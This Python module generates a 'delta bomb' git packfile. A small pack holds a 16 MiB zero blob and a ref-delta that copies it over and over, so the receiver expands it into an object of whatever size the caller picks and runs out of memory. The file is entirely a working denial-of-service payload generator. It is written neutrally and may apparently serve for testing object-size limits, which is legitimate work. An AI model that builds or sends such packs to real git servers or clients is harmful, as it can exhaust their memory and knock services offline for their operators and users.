"""A small pack whose one delta makes a very large object: what it costs to take in is memory, not bandwidth."""

import hashlib
import struct
import zlib
from typing import Final

_COPY_BYTES: Final = 0xFFFFFF
_BASE_BYTES: Final = 16 * 1024 * 1024


def delta_bomb(object_bytes: int) -> bytes:
    """A pack of some 16 KiB with a blob of about `object_bytes` zeros."""
    copies = object_bytes // _COPY_BYTES
    base = bytes(_BASE_BYTES)
    base_id = hashlib.sha1(b"blob %d\0" % len(base) + base).digest()
    copy_the_base = bytes([0xF0]) + b"\xff\xff\xff"
    delta = _varint(len(base)) + _varint(_COPY_BYTES * copies) + copy_the_base * copies
    entries = _head(3, len(base)) + zlib.compress(base, 9) + _head(7, len(delta)) + base_id + zlib.compress(delta, 9)
    pack = b"PACK" + struct.pack(">II", 2, 2) + entries
    return pack + hashlib.sha1(pack).digest()


def _head(kind: int, size: int) -> bytes:
    out, byte = bytearray(), (kind << 4) | (size & 15)
    size >>= 4
    while size:
        out.append(byte | 0x80)
        byte, size = size & 0x7F, size >> 7
    return bytes([*out, byte])


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*out, number])
